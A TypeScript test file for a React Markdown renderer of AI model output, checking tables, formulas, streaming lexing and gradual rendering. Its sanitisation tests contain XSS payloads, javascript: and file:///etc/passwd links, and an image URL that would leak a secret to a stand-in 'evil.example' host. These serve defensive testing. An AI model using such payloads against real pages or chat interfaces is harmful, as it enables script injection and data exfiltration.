import fc from 'fast-check';
import { act } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { render } from '../../lib/testing/render-component.tsx';
import { Markdown } from './markdown.tsx';
import { lexMarkdown, NO_BLOCKS } from './markdown-blocks.ts';
import { useGradual } from './use-gradual.ts';

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe('Markdown of a model is rendered', () => {
  test.each([
    [
      '# Tides\n\nThey *rise* and **fall**.',
      '<h3 dir="auto">Tides</h3><p dir="auto">They <em>rise</em> and <strong>fall</strong>.</p>',
    ],
    ['1. one\n2. two', '<ol start="1"><li dir="auto">one</li><li dir="auto">two</li></ol>'],
    ['```js\nif (a < b) {}\n```', '<pre tabindex="0" dir="ltr"><code>if (a &lt; b) {}</code></pre>'],
    ['| a | b |\n|---|--:|\n| 1 | 2 |', '<td dir="auto" style="text-align:right">2</td>'],
    [
      '| No | What it is for |\n|---|---|\n| 1 | a long text |',
      '<th dir="auto" style="text-align:start;min-inline-size:calc(2ch + 1.4em)">',
    ],
    [
      '| No | What it is for |\n|---|---|\n| 1 | a long text |',
      '<th dir="auto" style="text-align:start;min-inline-size:calc(14ch + 1.4em)">',
    ],
    [
      '| 港 | b |\n|---|---|\n| 神戸港 | 2 |',
      '<th dir="auto" style="text-align:start;min-inline-size:calc(6ch + 1.4em)">',
    ],
    ['a &amp; b &#233; &unknown;', 'a &amp; b é &amp;unknown;'],
    ['| a |\n|---|\n| 1<br>2 |', '1<br/>2'],
    ['<kbd>Ctrl</kbd> H<sub>2</sub>O', '<kbd>Ctrl</kbd> H<sub>2</sub>O'],
    [
      '<details><summary>S</summary>\n\nb</details>',
      '<details><summary dir="auto">S</summary><p dir="auto">b</p></details>',
    ],
    ['High[^1].\n\n[^1]: *Note*', 'High<sup title="*Note*">1</sup>'],
    ['High[^1].\n\n[^1]: *Note*', '<p dir="auto" class="footnote"><sup>1</sup> <em>Note</em></p>'],
    ['- مد', '<ul><li dir="auto">مد</li></ul>'],
    ['| مد |\n|---|\n| 1 |', '<table dir="rtl">'],
    ['| tide |\n|---|\n| 1 |', '<table dir="ltr">'],
    ['| 1 |\n|---|\n| 2 |', '<table>'],
    ['Name: Ann\nAge: 5', 'Name: Ann<br/>Age: 5'],
    ['3~5 and 7~9, 5$ or 10$', '3~5 and 7~9, 5$ or 10$'],
    ['- [x] done', '<input type="checkbox" disabled="" aria-label="Done" checked=""/>'],
  ])('%j', (text, part) => {
    expect(html(text)).toContain(part);
  });
});

describe('formulas', () => {
  const formulas = (text: string) =>
    [...html(text).matchAll(/<span class="math-text( display)?".*?<code>(.*?)<\/code>/gs)].map(([, display, tex]) =>
      display ? `display ${tex}` : tex,
    );

  test.each([
    ['the area $a_1 * b_2 * c$ is', ['$a_1 * b_2 * c$']],
    ['so \\(x^2\\) and $y$, too', ['\\(x^2\\)', '$y$']],
    ['$$\na\n+ b\n$$\n\nand', ['display $$\na\n+ b\n$$']],
    ['\\[ a \\]', ['display \\[ a \\]']],
    ['It falls:\n$$\na_1 * b_1\n$$\nas seen', ['display $$\na_1 * b_1\n$$']],
    ['- so \\[ a \\] it is', ['display \\[ a \\]']],
    ['| $x$ |\n|---|\n| $y$ |', ['$x$', '$y$']],
    ['it costs $5 or $10', []],
    ['US$5, and CA$7', []],
    ['`$x$` and \\$y\\$', []],
    ['```\n$$x$$\n```', []],
    ['$HOME/bin or $PATH', []],
  ])('%j', (text, tex) => {
    expect(formulas(text)).toEqual(tex);
  });
});

describe('nothing in it is loaded or executed', () => {
  test('HTML is text, except tags without attributes that say how a piece of a line looks', () => {
    const page = html('<img src=x onerror=alert(1)>\n\nso <b onclick=x>bold</b> <b>bold</b> <script>alert(1)</script>');
    expect(page).not.toMatch(/<(img|script)\b|<b /);
    expect(page).toContain('&lt;b onclick=x&gt;bold');
    expect(page).toContain('<b>bold</b>');
  });

  test('images are shown as names and not loaded', () => {
    const page = html('![cat](https://evil.example/?q=secret) ![ref][1]\n\n[1]: https://evil.example/2');
    expect(page).not.toContain('<img');
    expect(page).toContain('Image: cat (evil.example, not loaded)');
  });

  test.each([
    'javascript:alert(1)',
    'data:text/html,x',
    'JaVaScRiPt:alert(1)',
    'vbscript:x',
    'file:///etc/passwd',
    '/etc',
  ])('a link to %s is not rendered as a link', (address) => {
    expect(html(`[click](${address})`)).not.toContain('<a');
  });

  test('a web link opens in a new tab without referrer and opener', () => {
    expect(html('[site](https://example.org/a)')).toContain(
      'data-address="https://example.org/a" target="_blank" rel="noopener noreferrer">site</a>',
    );
  });
});

describe('a text that grows', () => {
  const piece = fc.constantFrom(
    '# H\n',
    'text ',
    '\n',
    '\n\n',
    '- item\n',
    '  more\n',
    '1. n\n',
    '```\n',
    '> q\n',
    '|a|b|\n|-|-|\n',
    '**b**',
    '---\n',
    '    code\n',
    '<div>\n',
    'a\r\n',
    '\r',
    '\n$$\n',
    '$$',
    '\\[x',
    '$$ x $$',
    '$a$ ',
    '\n\\[\n',
    '\\]\n',
    '+ b\n',
    '```markdown\n',
    '<details>\n',
    '</details>\n',
    '[^1]: note\n',
    '    more\n',
    '<br>\n',
  );

  test('ends with the same blocks as the whole text', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        let blocks = NO_BLOCKS;
        let text = '';
        for (const each of pieces) {
          text += each;
          blocks = lexMarkdown(blocks, text);
        }
        const whole = lexMarkdown(NO_BLOCKS, text);
        const raws = (of: typeof whole) =>
          [...of.settled, ...of.tail]
            .filter((token) => token.type !== 'space')
            .map((token) => `${token.type} ${token.raw.trim()}`);
        expect(raws(blocks)).toEqual(raws(whole));
      }),
      { numRuns: 3000 },
    );
  });

  test('keeps the identity of finished blocks', () => {
    const first = lexMarkdown(NO_BLOCKS, 'One.\n\nTwo.\n\nThr');
    const second = lexMarkdown(first, 'One.\n\nTwo.\n\nThree.');
    expect(second.settled[0]).toBe(first.settled[0]);
    expect(second.settled).toHaveLength(4);
  });
});

// @vitest-environment happy-dom

test('finished blocks stay the same elements while an answer grows', async () => {
  const paragraphs = Array.from({ length: 80 }, (_, index) => `Paragraph ${index} of the answer.`);
  const { host, rerender } = await render(<Markdown text={paragraphs.slice(0, 5).join('\n\n')} />);
  const [first] = host.querySelectorAll('p');
  for (let count = 6; count <= paragraphs.length; count += 1) {
    await rerender(<Markdown text={paragraphs.slice(0, count).join('\n\n')} />);
  }
  expect(host.querySelectorAll('p')).toHaveLength(80);
  expect(host.querySelector('p')).toBe(first);
});

const lengths: number[] = [];
function Probe({ text }: { text: string }) {
  lengths.push(useGradual(text).length);
  return null;
}
const seen = () => lengths.splice(0);

test('a long text is rendered in slices until it is complete', async () => {
  await render(<Probe text={'a'.repeat(50_000)} />);
  for (let turn = 0; turn < 10; turn++) await act(() => new Promise((resolve) => setTimeout(resolve, 5)));
  const drawnLengths = seen();
  expect(drawnLengths[0]).toBe(8000);
  expect(drawnLengths.at(-1)).toBe(50_000);
  expect(drawnLengths.every((length, index) => length - (drawnLengths[index - 1] ?? 0) <= 16_000)).toBe(true);
});

test('a growing text is always complete', async () => {
  const { rerender } = await render(<Probe text="" />);
  for (let size = 0; size < 100_000; size += 5000) {
    seen();
    await rerender(<Probe text={'a'.repeat(size)} />);
    expect(seen()).toEqual([size]);
  }
});

test('a replaced text is also complete', async () => {
  const { rerender } = await render(<Probe text={'a'.repeat(9000)} />);
  seen();
  await rerender(<Probe text="b" />);
  expect(seen()).toEqual([1]);
});
